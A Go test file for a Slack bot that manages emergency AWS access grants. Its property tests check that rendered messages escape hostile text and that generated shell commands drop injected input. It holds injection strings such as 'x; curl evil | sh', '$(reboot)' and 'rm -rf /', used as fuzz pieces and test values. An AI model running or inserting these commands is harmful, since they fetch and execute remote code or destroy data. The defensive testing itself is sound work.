package view

import (
	"bytes"
	"encoding/json"
	"fmt"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"pgregory.net/rapid"

	"breakglass/store/grant"
)

// nasty are the pieces that hostile text is made of. UEVIL and SEVIL are in no
// field that may become a mention.
var nasty = []string{
	"<!channel>", "<!here>", "<@UEVIL>", "<!subteam^SEVIL>", "<http://evil.example|click>", "http://evil.example",
	"@everyone", "@channel", "@UEVIL", "#general", "&amp;", "&", "&lt;!channel&gt;", "<", ">", "`", "```", "*bold*", "_it_", "~no~",
	":fire:", "\n", "\n> quote", "\t", "\x00", "\u202e", "\u200b", "\xff", "日本語", "😀", "é", "word ", "{\"a\":\"<end>\"}", "<!date^1^{time}|x>",
	"'; rm -rf / #", "$(reboot)", "\"",
}

func hostile(most int) *rapid.Generator[string] {
	return rapid.Custom(func(t *rapid.T) string {
		piece := rapid.SampledFrom(nasty)
		if rapid.IntRange(0, 3).Draw(t, "long") == 0 {
			return strings.Repeat(piece.Draw(t, "piece"), rapid.IntRange(0, most).Draw(t, "times"))
		}
		return strings.Join(rapid.SliceOfN(piece, 0, 40).Draw(t, "pieces"), "")
	})
}

func somebody(t *rapid.T) grant.UserID {
	if rapid.IntRange(0, 9).Draw(t, "odd person") == 0 {
		return grant.UserID(hostile(50).Draw(t, "person"))
	}
	return rapid.SampledFrom([]grant.UserID{ana, ben, eva}).Draw(t, "person")
}

func someTime(t *rapid.T) time.Time {
	switch rapid.IntRange(0, 9).Draw(t, "time") {
	case 0:
		return time.Time{}
	case 1:
		return time.Date(9998, 1, 1, 0, 0, 0, 0, time.UTC)
	default:
		return start.Add(time.Duration(rapid.Int64Range(-1e6, 1e6).Draw(t, "seconds")) * time.Second)
	}
}

func someActor(t *rapid.T) grant.Actor {
	return grant.Actor{
		Kind: rapid.SampledFrom([]grant.ActorKind{grant.Person, grant.Operator, grant.Bot}).Draw(t, "kind"),
		User: somebody(t), Name: hostile(100).Draw(t, "name"),
	}
}

func someSteps(t *rapid.T, names ...string) []grant.Step {
	var out []grant.Step
	for _, n := range names {
		out = append(out, grant.Step{
			Name: n, At: someTime(t), Note: hostile(500).Draw(t, "note"),
			State: rapid.SampledFrom([]grant.StepState{grant.Waiting, grant.Running, grant.Done, grant.Failing}).Draw(t, "state"),
		})
	}
	return out
}

func someTrouble(t *rapid.T) *grant.Trouble {
	if rapid.Bool().Draw(t, "no trouble") {
		return nil
	}
	return &grant.Trouble{Step: grant.StepTrust, Text: hostile(2000).Draw(t, "trouble"), Remedy: hostile(2000).Draw(t, "remedy")}
}

func someApprovals(t *rapid.T) []grant.Approval {
	return many(t, 60, "approvals", func() grant.Approval {
		return grant.Approval{By: somebody(t), At: someTime(t), For: time.Duration(rapid.IntRange(0, 2).Draw(t, "for")) * time.Hour}
	})
}

func many[T any](t *rapid.T, most int, name string, one func() T) []T {
	var out []T
	for range rapid.IntRange(0, most).Draw(t, name) {
		out = append(out, one())
	}
	return out
}

// anyGrant is a grant in the phase, holding whatever anybody may have typed, AWS
// may have said, or a damaged store may hold.
func anyGrant(t *rapid.T, phase grant.Phase) grant.Grant {
	text := func(name string, most int) string { return hostile(most).Draw(t, name) }
	d := time.Duration(rapid.Int64Range(0, 40*24*3600).Draw(t, "duration")) * time.Second
	g := grant.Grant{
		ID: grant.ID(rapid.Uint64Range(1, 1e15).Draw(t, "id")), Phase: phase, Token: "TOKEN",
		Cell: grant.CellName(text("cell", 200)), Account: grant.AccountID(text("account", 30)), Region: text("region", 30),
		Principal: grant.RoleARN(text("principal", 600)), Ticket: text("ticket", 100), Reason: text("reason", 3000),
		Duration: d, Requester: somebody(t), Terms: terms(), RequestedAt: someTime(t),
		Approvals: someApprovals(t),
		DecidedAt: someTime(t), DecidedBy: someActor(t), Why: text("why", 3000),
		Opening:   someSteps(t, grant.StepCheck, grant.StepLogging, grant.StepHardStop, grant.StepTrust),
		OpenError: someTrouble(t), OpenedAt: someTime(t), End: someTime(t), SentBy: somebody(t),
		Touched: rapid.Bool().Draw(t, "touched"), ClosedAt: someTime(t),
	}
	if rapid.Bool().Draw(t, "real region") {
		g.Region = rapid.SampledFrom([]string{"us-east-1", "us-gov-west-1", "cn-north-1", "ap-southeast-2"}).Draw(t, "region")
	}
	if rapid.Bool().Draw(t, "less") {
		g.Asked = d + time.Hour
	}
	if g.Emergency = rapid.Bool().Draw(t, "emergency"); g.Emergency && rapid.Bool().Draw(t, "signed") {
		g.Review = &grant.Review{By: somebody(t), At: someTime(t)}
	}
	if rapid.Bool().Draw(t, "extension") {
		g.Extension = &grant.Extension{
			N: rapid.IntRange(0, 1000).Draw(t, "n"), By: somebody(t), For: d / 2, AskedAt: someTime(t), Approvals: someApprovals(t),
			DecidedAt: someTime(t), Until: someTime(t), Trouble: someTrouble(t),
		}
		if rapid.Bool().Draw(t, "denied") {
			g.Extension.DeniedBy = somebody(t)
		}
	}
	g.Extensions = many(t, 20, "extensions", func() grant.Extended {
		return grant.Extended{By: somebody(t), At: someTime(t), From: someTime(t), To: someTime(t), Approvals: someApprovals(t)}
	})
	g.Terms.AWSEnforced = rapid.Bool().Draw(t, "enforced")
	g.Terms.Approvals = rapid.IntRange(0, 60).Draw(t, "needed")
	if rapid.Bool().Draw(t, "sent") {
		g.SentAt = someTime(t)
	}
	if rapid.Bool().Draw(t, "report") {
		level := rapid.SampledFrom([]grant.Level{grant.OK, grant.Warning, grant.Unread, grant.Blocks})
		g.Report = &grant.Report{
			At: someTime(t), RoleARN: text("role arn", 300), RoleName: text("role", 100), InstanceID: text("instance", 50),
			InstanceName: text("instance name", 300), LogGroup: text("log group", 600), Statement: text("statement", 3000),
			Findings: many(t, 30, "findings", func() grant.Finding {
				return grant.Finding{Check: "x", Level: level.Draw(t, "level"), Text: text("finding", 800), Remedy: text("remedy", 800)}
			}),
			Logging: many(t, 20, "logging", func() string { return text("change", 300) }),
			Trusted: many(t, 30, "trusted", func() string { return text("trusted", 300) }),
		}
	}
	if g.Report != nil && rapid.Bool().Draw(t, "redirect") {
		g.Report.Redirect = &grant.Redirect{From: text("from", 600), To: text("to", 600)}
	}
	if rapid.Bool().Draw(t, "access") {
		g.Access = &grant.Access{
			At: someTime(t), End: g.End, RoleARN: text("role arn", 300), RoleName: text("role", 100), InstanceID: text("instance", 50),
			LogGroup: text("log group", 600), Statement: text("statement", 3000), TrustBefore: text("before", 100), TrustAfter: text("after", 100),
		}
	}
	if phase == grant.Closing || phase == grant.Closed || rapid.Bool().Draw(t, "ending") {
		by := someActor(t)
		g.Ending = &grant.Ending{
			Since: someTime(t), By: by, Why: text("why", 3000),
			Steps:       someSteps(t, grant.StepTrust, grant.StepCredentials, grant.StepSessions, grant.StepProof),
			TrustGoneAt: someTime(t), CutOff: someTime(t), Empty: rapid.IntRange(0, 3).Draw(t, "empty"), Failing: rapid.IntRange(0, 100).Draw(t, "failing"),
			Removed: many(t, 20, "removed", func() string { return text("removed", 300) }),
			Ended: many(t, 40, "sessions", func() grant.Session {
				return grant.Session{ID: text("session", 100), Document: text("document", 100), Started: someTime(t)}
			}),
			StillTrusted: many(t, 20, "still", func() grant.ID { return 9 }),
		}
		if rapid.Bool().Draw(t, "revoked") {
			g.Ending.Why = "revoked by @" + string(by.User) + ": " + g.Ending.Why
		}
	}
	g.Story = many(t, 200, "story", func() grant.Moment {
		return grant.Moment{At: someTime(t), By: someActor(t), Text: rapid.SampledFrom(nasty).Draw(t, "moment")}
	})
	if rapid.Bool().Draw(t, "watched") {
		g.Watch = anyWatch(t)
	}
	return g
}

// anyWatch is whatever somebody inside can make a look show.
func anyWatch(t *rapid.T) *grant.Watch {
	text := func(name string, most int) string { return hostile(most).Draw(t, name) }
	w := &grant.Watch{
		At: someTime(t), SessionsAt: someTime(t), Forgotten: rapid.IntRange(0, 200).Draw(t, "forgotten"), Beyond: rapid.IntRange(0, 200).Draw(t, "beyond"),
		AssumedMore: rapid.Bool().Draw(t, "more"),
	}
	visit := func() grant.Visit {
		return grant.Visit{
			Session: grant.Session{
				ID: text("session", 200), Owner: rapid.SampledFrom([]string{"", "a:assumed-role/r/"}).Draw(t, "owner") + text("owner", 300), Target: text("target", 100),
				Document: text("document", 200), Started: someTime(t),
			},
			Seen: someTime(t), Gone: someTime(t), Back: someTime(t), Unlogged: rapid.Bool().Draw(t, "unlogged"), NeverLogged: rapid.Bool().Draw(t, "never"),
		}
	}
	w.Visits = many(t, 4, "visits", visit)
	for len(w.Visits) > 0 && len(w.Visits) < 100 && rapid.Bool().Draw(t, "crowd") {
		w.Visits = append(w.Visits, w.Visits...)
	}
	w.Assumed = many(t, 3, "assumed", func() grant.Assumed {
		return grant.Assumed{EventID: "e", At: someTime(t), By: text("by", 600), Session: text("name", 100), From: text("from", 100), Told: 1}
	})
	for len(w.Assumed) > 0 && len(w.Assumed) < 100 && rapid.Bool().Draw(t, "often") {
		w.Assumed = append(w.Assumed, w.Assumed...)
	}
	for range rapid.IntRange(0, 8).Draw(t, "drifts") {
		if w.Drift == nil {
			w.Drift = map[string]grant.Drift{}
		}
		w.Drift[text("drift name", 40)] = grant.Drift{Text: text("drift", 3000), Since: someTime(t), Told: 1}
	}
	return w
}

var phases = grant.Phases[1:]

var sayings = []string{
	grant.SayDenied, grant.SayLapsed, grant.SayWithdrawn, grant.SayOpened, grant.SayFailed, grant.SayClosing, grant.SayStuck + ":3", grant.SayProof,
	grant.RemindUndecided + ":1", grant.RemindUnsent, grant.RemindBeforeEnd + ":30m0s", grant.RemindBeforeEnd + ":10m0s", grant.RemindStillOpen + ":1",
	grant.SaySessions + ":1", grant.SayAssumed + ":1", grant.SayAssumed + ":2", grant.RemindUnused,
	grant.SayEmergency, grant.SayReviewed, grant.SayExtendAsked + ":1", grant.SayExtendDenied + ":1", grant.SayExtended + ":1", grant.SayExtendFailed + ":1",
	grant.RemindReview + ":1", grant.RemindExtend + ":1",
}

// sightings are the names of the messages about what was seen of a grant.
func sightings(g grant.Grant) (names []string) {
	if g.Watch == nil {
		return nil
	}
	for i, v := range g.Watch.Visits {
		if i == 3 {
			break
		}
		for _, kind := range []string{grant.SayCame, grant.SayLeft, grant.SayUnlogged, grant.SayNeverLogged} {
			names = append(names, kind+":"+v.Session.ID)
		}
	}
	for name, d := range g.Watch.Drift {
		names = append(names, fmt.Sprintf("%s:%s:%d", grant.SayDrift, name, d.Told))
	}
	return names
}

// aboutMore are the names of the messages about the extension that a grant has.
func aboutMore(g grant.Grant) (names []string) {
	if g.Extension == nil {
		return nil
	}
	for _, kind := range []string{grant.SayExtendAsked, grant.SayExtendDenied, grant.RemindExtend} {
		names = append(names, fmt.Sprintf("%s:%d", kind, g.Extension.N))
	}
	return names
}

type view struct {
	name string
	m    Message
}

// every is every message of a grant.
func every(g grant.Grant, others []grant.Grant, people People, now time.Time) []view {
	all := append(slices.Clone(others), g)
	out := []view{
		{"card", Card(g, others, now)},
		{"show", Show(g, now)},
		{"status", Status(all, nil, now)},
		{"choose", Choose(all, now)},
		{"confirm", ConfirmAll(all, now)},
		{"requested", Requested(g, "C0APPROVALS")},
		{"revoking", Revoking([]grant.Grant{g}, 2, "C0APPROVALS")},
		{"extend asked", ExtendAsked(g, "C0APPROVALS")},
		{"emergency", Emergency(g, "C0APPROVALS")},
		{"history", History(g.Cell, all, len(all))},
		{"checking", Checking([]grant.CellName{g.Cell, "helios-prod"})},
	}
	if g.Report != nil {
		out = append(out, view{"check", Check([]CellReport{{g.Cell, *g.Report}}, now)}, view{"check all", Check([]CellReport{{g.Cell, *g.Report}, {"helios-prod", *g.Report}}, now)})
	}
	names := slices.Concat(sightings(g), aboutMore(g), sayings)
	for _, name := range names {
		if m, ok := Say(name, g, others, people, now); ok {
			out = append(out, view{name, m})
		}
	}
	if m, ok := Merged(names, g, others, people, now); ok {
		out = append(out, view{"merged", m})
	}
	return out
}

// face is a modal or a home tab.
type face struct {
	name string
	js   []byte
}

// faces is every modal and home tab of a grant.
func faces(g grant.Grant, others []grant.Grant, guards []grant.Guard, now time.Time) []face {
	out := []face{
		{"approve less", ApproveLessForm(g).JSON()},
		{"deny", DenyForm(g).JSON()},
		{"extend", ExtendForm(g, g.Duration).JSON()},
		{"said", Said(g.Reason, Show(g, now)).JSON()},
	}
	for _, emergency := range []bool{false, true} {
		out = append(out, face{"form", GrantForm(Form{
			Cells: []grant.CellName{g.Cell, "helios-prod"}, Default: g.Duration / 2, Max: g.Duration, Emergency: emergency,
			Ask: grant.Ask{Cell: string(g.Cell), ARN: string(g.Principal), Ticket: g.Ticket, For: g.Region, Reason: g.Reason},
		}).JSON()})
	}
	all := append(slices.Clone(others), g)
	for _, user := range []grant.UserID{ana, ben} {
		for _, may := range []bool{false, true} {
			out = append(out, face{"home", Home(HomeView{
				User: user, MayDecide: may, MayRequest: may, MayRevoke: !may,
				Live: all, Ended: all, Unsigned: all, Guards: guards, Now: now,
			}).JSON()})
		}
	}
	return out
}

var (
	tokens   = regexp.MustCompile(`<!date\^[0-9]{1,10}\^[A-Za-z{}_ ]+\|[0-9A-Z: -]+>|<@[UW]0[A-Z]+>|<!subteam\^S0[A-Z]+>|<#C0[A-Z]+>`)
	entities = regexp.MustCompile(`&(amp|lt|gt);`)
	ours     = regexp.MustCompile("`/?[a-zA-Z0-9 |=:.\\[\\]/-]+`|\\*[^*_~`\n]+\\*")
)

// console is an address in the AWS console that nothing can have broken out of.
var console = regexp.MustCompile(`^https://[a-z0-9-]+\.console\.(aws\.amazon\.com|amazonaws-us-gov\.com|amazonaws\.cn)/cloudwatch/home\?region=[a-z0-9-]+#logsV2:log-groups/log-group/[A-Za-z0-9$._-]+/log-events/[A-Za-z0-9$._-]+$`)

// harmless checks that nothing in a message is markup but our own.
func harmless(t interface{ Errorf(string, ...any) }, name string, m Message) {
	harmlessJSON(t, name, m.BlocksJSON(), maxSum+500)
	parse(t, name, m.Text)
	if !utf8.ValidString(m.Text) {
		t.Errorf("%s: the text is not UTF-8", name)
	}
}

// parse checks a text that Slack parses.
func parse(t interface{ Errorf(string, ...any) }, name, s string) {
	s = tokens.ReplaceAllString(s, "")
	if strings.ContainsAny(s, "<>") {
		t.Errorf("%s: a token that is not ours in %q", name, s)
	}
	if strings.Contains(entities.ReplaceAllString(s, ""), "&") {
		t.Errorf("%s: an entity is cut in %q", name, s)
	}
}

// harmlessJSON checks blocks, or a view, that may hold so many characters.
func harmlessJSON(t interface{ Errorf(string, ...any) }, name string, js []byte, most int) {
	var v any
	if err := json.Unmarshal(js, &v); err != nil {
		t.Errorf("%s: %v", name, err)
	}
	sum := 0
	var walk func(v any)
	walk = func(v any) {
		switch v := v.(type) {
		case []any:
			for _, e := range v {
				walk(e)
			}
		case map[string]any:
			switch v["type"] {
			case "mrkdwn":
				s := v["text"].(string)
				parse(t, name, s)
				if v["verbatim"] != true {
					t.Errorf("%s: mrkdwn that is not verbatim: %q", name, s)
				}
				s = tokens.ReplaceAllString(s, "x")
				if strings.ContainsAny(ours.ReplaceAllString(s, ""), "`*_~&") || strings.Contains(s, ":fire:") {
					t.Errorf("%s: formatting that is not ours in %q", name, s)
				}
			case "user", "usergroup", "channel":
				for _, k := range []string{"user_id", "usergroup_id", "channel_id"} {
					if id, ok := v[k].(string); ok && strings.Contains(id, "EVIL") {
						t.Errorf("%s: %s was mentioned", name, id)
					}
				}
			case "link":
				if url := v["url"].(string); !console.MatchString(url) || len(url) > 3000 || v["text"] != "log in CloudWatch" {
					t.Errorf("%s: a link that is not ours: %v", name, v)
				}
				sum += len(v["url"].(string))
			case "broadcast", "emoji":
				t.Errorf("%s: an element of the kind %s", name, v["type"])
			}
			for k, e := range v {
				if s, ok := e.(string); ok && (k == "text" || k == "fallback") {
					sum += units(s)
				}
				walk(e)
			}
		}
	}
	walk(v)
	if sum > most {
		t.Errorf("%s: the blocks hold %d characters, want at most %d", name, sum, most)
	}
}

// wantButtons is the buttons of a card: those that work, and no others.
func wantButtons(g grant.Grant) (want []string) {
	switch g.Phase {
	case grant.Requested:
		want = []string{ActionApprove, ActionDeny, ActionWithdraw}
		if g.Report != nil && g.Report.Redirect != nil {
			want[0] = ActionApproveRedirect
		}
		if g.Duration > time.Second {
			want = append(want, ActionApproveLess)
		}
		return append(want, ActionDenyWhy)
	case grant.Opening:
		want = []string{ActionRevoke}
	case grant.Open:
		x := g.Extension
		if x != nil && x.DecidedAt.IsZero() {
			want = append(want, ActionApproveExtension, ActionDenyExtension)
		}
		if g.SentAt.IsZero() {
			want = append(want, ActionMarkSent)
		}
		want = append(want, ActionRevoke)
		if x == nil || (!x.DecidedAt.IsZero() && x.Until.IsZero()) {
			want = append(want, ActionExtend)
		}
	case grant.Closing, grant.Closed:
	default:
		return nil
	}
	if g.Emergency && g.Review == nil {
		want = append(want, ActionSign)
	}
	return want
}

// values are what the buttons may carry beside the token: nothing that anybody
// typed.
var values = regexp.MustCompile(`^TOKEN(:[0-9]+|:[0-9a-f]{12})?$`)

// pressable is the actions of a message's buttons.
func pressable(t interface{ Errorf(string, ...any) }, m Message) (actions []string) {
	for _, b := range m.Blocks {
		var all []button
		if b.Accessory != nil {
			all = append(all, *b.Accessory)
		}
		if b.Type == "actions" {
			for _, e := range b.Elements {
				all = append(all, e.(button))
			}
		}
		for _, x := range all {
			if x.Type == "overflow" {
				for _, o := range x.Options {
					action, value, _ := strings.Cut(o.Value, " ")
					if !values.MatchString(value) || len(o.Value) > 150 {
						t.Errorf("the choice %q carries %q, want the token alone", o.Text.Text, o.Value)
					}
					actions = append(actions, action)
				}
				continue
			}
			if !values.MatchString(x.Value) && x.ActionID != ActionRevokeAll {
				t.Errorf("the button %s carries %q, want the token alone", x.ActionID, x.Value)
			}
			actions = append(actions, x.ActionID)
		}
	}
	return actions
}

// TestViews_hostile renders every view of hostile grants in every phase: nothing
// that Slack refuses, nothing that Slack would take for markup, no button that
// does not work, no word of closed before the proof, and nothing changed.
func TestViews_hostile(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		phase := rapid.SampledFrom(phases).Draw(t, "phase")
		g := anyGrant(t, phase)
		var others []grant.Grant
		for range rapid.IntRange(0, 3).Draw(t, "others") {
			o := g
			o.ID++
			others = append(others, o)
		}
		for len(others) > 0 && len(others) < 60 && rapid.IntRange(0, 5).Draw(t, "crowd") == 0 {
			others = append(others, others...)
		}
		people := People{Approvers: many(t, 60, "approvers", func() grant.UserID { return somebody(t) })}
		if rapid.Bool().Draw(t, "groups") {
			people.ApproverGroups = []grant.GroupID{"S0PLATFORM", grant.GroupID(hostile(30).Draw(t, "group"))}
		}
		now := someTime(t)
		before, err := json.Marshal(g)
		if err != nil {
			t.Fatal(err)
		}
		for _, v := range every(g, others, people, now) {
			if v.name == "history" {
				fitsIn(t, v.m, maxSum)
			} else {
				fits(t, v.m)
			}
			harmless(t, v.name, v.m)
			pressable(t, v.m)
			if phase != grant.Closed {
				for _, s := range []string{v.m.Text, string(v.m.BlocksJSON())} {
					if strings.Contains(strings.ToLower(s), "closed") {
						t.Errorf("%s says closed of a grant that is %s", v.name, phase)
					}
				}
			}
		}
		guards := []grant.Guard{{Cell: g.Cell, BlindTold: 1, Blind: someTrouble(t), Strays: many(t, 20, "strays", func() grant.Stray {
			return grant.Stray{Trust: grant.Trust{Principal: hostile(300).Draw(t, "stray"), End: someTime(t)}, Token: "TOKEN", Told: start}
		})}}
		for _, f := range faces(g, others, guards, now) {
			fitsView(t, f.js)
			harmlessJSON(t, f.name, f.js, 40_000)
			if phase != grant.Closed && strings.Contains(strings.ToLower(string(f.js)), "closed") {
				t.Errorf("%s says closed of a grant that is %s", f.name, phase)
			}
		}
		card := Card(g, nil, now)
		want := wantButtons(g)
		if got := pressable(t, card); !slices.Equal(got, want) {
			t.Errorf("a card that is %s has the buttons %v, want %v", phase, got, want)
		}
		if !reflect.DeepEqual(card, Card(g, nil, now.Add(time.Hour))) {
			t.Error("a card changed although its grant did not")
		}
		if after, err := json.Marshal(g); err != nil || !bytes.Equal(before, after) {
			t.Errorf("rendering changed the grant (%v)", err)
		}
		harmless(t, "refused", Refused(strings.ReplaceAll(g.Reason, "UEVIL", "U0EVA"), hostile(200).Draw(t, "ref")))
		fits(t, Refused(g.Reason, g.Ticket))
		fits(t, Failed(g.Ticket))
	})
}

// TestViews_neverClosed renders every scene of the story that is not proven.
func TestViews_neverClosed(t *testing.T) {
	for _, s := range scenes(t) {
		if s.tale.g.Phase == grant.Closed {
			continue
		}
		for _, v := range every(s.tale.g, nil, people, s.tale.now.Add(time.Minute)) {
			if all := v.m.Text + string(v.m.BlocksJSON()); strings.Contains(strings.ToLower(all), "closed") {
				t.Errorf("%s of %s says closed", v.name, s.name)
			}
		}
	}
}

func TestCut(t *testing.T) {
	for _, tt := range []struct {
		in   string
		n    int
		want string
	}{
		{"short", 10, "short"},
		{"exactly", 7, "exactly"},
		{"too long", 4, "too…"},
		{"a &amp; b", 8, "a &amp;…"},
		{"a &amp; b", 7, "a…"},
		{"a &amp; b", 5, "a…"},
		{"&lt;&lt;", 4, "…"},
		{"fish & chips & peas", 12, "fish & chip…"},
		{"日本語です", 3, "日本…"},
		{"anything", 0, ""},
		{"anything", 1, "…"},
	} {
		if got := Cut(tt.in, tt.n); got != tt.want {
			t.Errorf("Cut(%q, %d) = %q, want %q", tt.in, tt.n, got, tt.want)
		}
	}
	rapid.Check(t, func(t *rapid.T) {
		s := Escape(strings.ToValidUTF8(hostile(200).Draw(t, "text"), "?"))
		n := rapid.IntRange(0, 300).Draw(t, "runes")
		got := Cut(s, n)
		if c := utf8.RuneCountInString(got); c > n {
			t.Errorf("Cut to %d left %d", n, c)
		}
		if strings.Contains(entities.ReplaceAllString(got, ""), "&") {
			t.Errorf("Cut(%q, %d) = %q cuts an entity", s, n, got)
		}
		if !strings.HasPrefix(s, strings.TrimSuffix(got, "…")) {
			t.Errorf("Cut(%q, %d) = %q is not its beginning", s, n, got)
		}
	})
}

// TestSay_worth asks for every message in every scene: only those that are still
// true are said.
func TestSay_worth(t *testing.T) {
	worth := map[grant.Phase][]string{
		grant.Requested: {"undecided:1"},
		grant.Opening:   nil,
		grant.Open:      {"opened", "unsent", "before_end:30m0s", "before_end:10m0s", "still_open:1"},
		grant.Closing:   {"failed", "closing"},
		grant.Closed:    {"failed", "proof"},
		grant.Denied:    {"denied"},
		grant.Withdrawn: {"withdrawn"},
		grant.Lapsed:    {"lapsed"},
	}
	for _, s := range scenes(t) {
		want := slices.Clone(worth[s.tale.g.Phase])
		without := func(names ...string) {
			want = slices.DeleteFunc(want, func(n string) bool { return slices.Contains(names, n) })
		}
		switch s.name {
		case "closing_stuck":
			want = append(want, "stuck:3")
		case "open_nobody":
			want = append(want, "unused")
		case "open_watched", "open_logged_late", "closed_watched":
			want = append(want, "sessions:1")
		case "open_more_asked", "open_more_half":
			want = append(want, "extend_asked:1", "extend:1")
		case "open_more_denied", "open_more_taken_back":
			want = append(want, "extend_denied:1")
		case "open_more_failed":
			want = append(want, "extend_failed:1")
		case "open_extended":
			want = append(want, "extended:1", "unused")
		case "open_extended_more_asked":
			want = append(want, "extended:1")
		}
		if !s.tale.g.SentAt.IsZero() {
			without("unsent")
		}
		if s.tale.g.Emergency {
			want = append(want, "emergency")
			if s.tale.g.Review != nil {
				want = append(want, "reviewed")
			} else if s.tale.g.Phase != grant.Requested {
				want = append(want, "review:1")
			}
		}
		var got []string
		for _, name := range append([]string{"", "nonsense"}, sayings...) {
			if _, ok := Say(name, s.tale.g, nil, people, s.tale.now); ok {
				got = append(got, name)
			}
		}
		slices.Sort(got)
		slices.Sort(want)
		if !slices.Equal(got, want) {
			t.Errorf("%s: worth saying are %v, want %v", s.name, got, want)
		}
	}
	// After the end, and after the lapse, nothing is urged any more.
	for _, name := range []string{"requested", "open", "open_more_asked", "open_more_denied", "open_more_failed", "open_extended"} {
		s := sceneNamed(t, name)
		for _, what := range sayings {
			if _, ok := Say(what, s.g, nil, people, s.now.Add(5*time.Hour)); ok {
				t.Errorf("%s, five hours later: %s is still said", name, what)
			}
		}
	}
}

// TestSay_lateReminders holds that of several reminders that downtime has made
// late, the one nearest to the end speaks for all.
func TestSay_lateReminders(t *testing.T) {
	g := sceneNamed(t, "open").g
	for _, tt := range []struct {
		name string
		left time.Duration
		want bool
	}{
		{"before_end:30m0s", 30 * time.Minute, true},
		{"before_end:30m0s", 11 * time.Minute, true},
		{"before_end:30m0s", 9 * time.Minute, false},
		{"before_end:10m0s", 9 * time.Minute, true},
		{"before_end:oops", 9 * time.Minute, false},
	} {
		if _, ok := Say(tt.name, g, nil, people, g.End.Add(-tt.left)); ok != tt.want {
			t.Errorf("%s with %s left: said is %v, want %v", tt.name, tt.left, ok, tt.want)
		}
	}
}

func TestPeople_mentions(t *testing.T) {
	read := func(l line) string {
		var b strings.Builder
		for _, s := range l {
			b.WriteString(s.read())
		}
		return b.String()
	}
	for _, tt := range []struct {
		people  People
		without []grant.UserID
		want    string
	}{
		{People{}, nil, ""},
		{People{Approvers: []grant.UserID{ben, eva, ben}}, nil, "<@U0BEN>, <@U0EVA> "},
		{People{Approvers: []grant.UserID{ben, eva}}, []grant.UserID{ben}, "<@U0EVA> "},
		{People{Approvers: []grant.UserID{ben}}, []grant.UserID{ben}, ""},
		{People{Approvers: []grant.UserID{ben}, ApproverGroups: []grant.GroupID{"S0A", "S0B"}}, nil, "<!subteam^S0A>, <!subteam^S0B> "},
	} {
		if got := read(tt.people.mentions(tt.without...)); got != tt.want {
			t.Errorf("%+v without %v: %q, want %q", tt.people, tt.without, got, tt.want)
		}
	}
}

// TestSay_broadcast holds what the whole channel is told, and not the thread alone.
func TestSay_broadcast(t *testing.T) {
	for _, tt := range []struct {
		scene, name string
		want        bool
	}{
		{"emergency_opening", grant.SayEmergency, true},
		{"closing_stuck", grant.SayStuck + ":3", true},
		{"requested", grant.RemindUndecided + ":2", false},
		{"requested", grant.RemindUndecided + ":3", true},
		{"requested", grant.RemindUndecided + ":4", true},
		{"emergency_closed", grant.RemindReview + ":2", false},
		{"emergency_closed", grant.RemindReview + ":3", true},
		{"open", grant.RemindStillOpen + ":3", false},
		{"open_more_asked", grant.RemindExtend + ":1", false},
		{"open", grant.SayOpened, false},
	} {
		s := sceneNamed(t, tt.scene)
		m, ok := Say(tt.name, s.g, nil, people, s.now)
		if !ok || m.Broadcast != tt.want {
			t.Errorf("%s of %s: said is %v, and to the channel %v, want %v", tt.name, tt.scene, ok, m.Broadcast, tt.want)
		}
		if one, ok := Merged([]string{tt.name}, s.g, nil, people, s.now); ok && one.Broadcast != tt.want {
			t.Errorf("%s of %s, late: to the channel is %v, want %v", tt.name, tt.scene, one.Broadcast, tt.want)
		}
	}
}

// TestSay_emergencyMentions holds that of an emergency every approver hears, by
// name, also where groups are configured.
func TestSay_emergencyMentions(t *testing.T) {
	crowd := People{ApproverGroups: []grant.GroupID{"S0A", "S0B"}}
	for i := range 120 {
		crowd.Approvers = append(crowd.Approvers, grant.UserID(fmt.Sprintf("U0%09d", i)))
	}
	s := sceneNamed(t, "emergency_opening")
	g := s.g
	g.Reason = strings.Repeat("a reason in words ", 160)
	m, ok := Say(grant.SayEmergency, g, nil, crowd, s.now)
	if !ok {
		t.Fatal("nobody is told")
	}
	fits(t, m)
	blocks := string(m.BlocksJSON())
	for _, id := range crowd.Approvers {
		if !strings.Contains(m.Text, "<@"+string(id)+">") || !strings.Contains(blocks, string(id)) {
			t.Errorf("%s is not told", id)
		}
	}
	for _, id := range crowd.ApproverGroups {
		if !strings.Contains(m.Text, "<!subteam^"+string(id)+">") || !strings.Contains(blocks, string(id)) {
			t.Errorf("%s is not told", id)
		}
	}
	if !strings.Contains(m.Text, "Buttons: Revoke now.") {
		t.Error("its text has no room for the button")
	}
}

// TestExtension_old holds that a question for more time that is decided, or whose
// time is up, is neither asked nor answered any more.
func TestExtension_old(t *testing.T) {
	s := sceneNamed(t, "open_extended_more_asked") // the second question
	for name, want := range map[string]bool{"extend_asked:1": false, "extend:1": false, "extend_asked:2": true, "extend:2": true, "extend_denied:2": false, "extend:x": false} {
		if _, ok := Say(name, s.g, nil, people, s.now); ok != want {
			t.Errorf("%s is said: %v, want %v", name, ok, want)
		}
		if _, ok := Say(name, s.g, nil, people, s.g.End); ok {
			t.Errorf("%s is said at the end", name)
		}
	}
	var got []string
	for _, b := range Card(s.g, nil, s.now).Blocks {
		for _, e := range b.Elements {
			if x, ok := e.(button); ok && strings.Contains(x.ActionID, "extension") {
				got = append(got, x.Value)
			}
		}
	}
	if want := []string{s.g.Token + ":2", s.g.Token + ":2"}; !slices.Equal(got, want) {
		t.Errorf("the buttons carry %v, want %v", got, want)
	}
}

// TestByHand_shell holds that nothing foreign gets into a command that a tired
// person pastes into a shell.
func TestByHand_shell(t *testing.T) {
	g := sceneNamed(t, "closing_stuck").g
	a := *g.Access
	a.RoleName = "x; curl evil | sh"
	g.Access = &a
	g.Region = "us-east-1 $(reboot)"
	g.Account = "1\nrm -rf /"
	got := byHand(g, nil)
	for _, bad := range []string{"curl", "reboot", "rm -rf"} {
		if strings.Contains(got, bad) {
			t.Errorf("the commands hold %q:\n%s", bad, got)
		}
	}
	for _, want := range []string{"ROLE_NAME", "--region REGION", "update-assume-role-policy", "AWSRevokeOlderSessions", "terminate-session"} {
		if !strings.Contains(got, want) {
			t.Errorf("the commands lack %q:\n%s", want, got)
		}
	}
}

func TestPretty(t *testing.T) {
	compact := func(s string) string {
		var b bytes.Buffer
		if err := json.Compact(&b, []byte(s)); err != nil {
			t.Fatal(err)
		}
		return b.String()
	}
	for _, s := range []string{statement, `{"a":1}`, ` { "a" : [ 1 , "x, y" ] , "b" : {"c":{}} } `, `{"a":"<end>&\u003c"}`} {
		got := pretty(s)
